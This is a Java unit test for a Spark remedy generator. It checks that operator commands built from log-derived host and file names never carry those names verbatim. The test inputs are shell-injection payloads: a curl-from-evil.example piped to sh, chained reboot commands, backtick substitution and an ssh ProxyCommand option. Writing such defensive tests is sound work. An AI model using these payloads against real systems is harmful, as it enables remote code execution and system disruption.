package io.fizzle.remedy;

import static org.assertj.core.api.Assertions.assertThat;

import io.fizzle.remedy.Remedy.OperatorAction;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a log names does not run in the shell of who copies a command. */
class ShellWordTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "h7$(curl${IFS}evil.example|sh)",
        "/tmp/x.hprof;curl evil.example",
        "a`id`",
        "a && reboot",
        "-oProxyCommand=x",
        "a\nreboot",
        "'a'"
      })
  void noCommandHoldsAHostileName(String name) {
    List<Remedy> remedies = new ArrayList<>();
    for (String master : List.of("yarn", Runs.KUBERNETES, Runs.STANDALONE, "local[2]")) {
      SparkConf conf = Runs.on(master, "3.5.7");
      remedies.addAll(LivenessRemedies.nodeLost(conf, name));
      remedies.addAll(LivenessRemedies.evicted(conf, Jvm.EXECUTOR, "", name));
      remedies.addAll(ClusterRemedies.badNode(conf, name, true));
      remedies.addAll(ContainerRemedies.nodeMemory(conf, name));
      remedies.addAll(DiskRemedies.badDisk(conf, name));
      remedies.addAll(EphemeralStorageRemedies.evicted(conf, Jvm.EXECUTOR, "storage", name));
    }
    remedies.add(HeapDumpRemedies.open(name, ""));
    remedies.addAll(StoreRemedies.quota("The DiskSpace quota of " + name + " is exceeded"));

    assertThat(remedies)
        .filteredOn(OperatorAction.class::isInstance)
        .extracting(remedy -> ((OperatorAction) remedy).command())
        .allSatisfy(command -> assertThat(String.valueOf(command)).doesNotContain(name));
  }
}
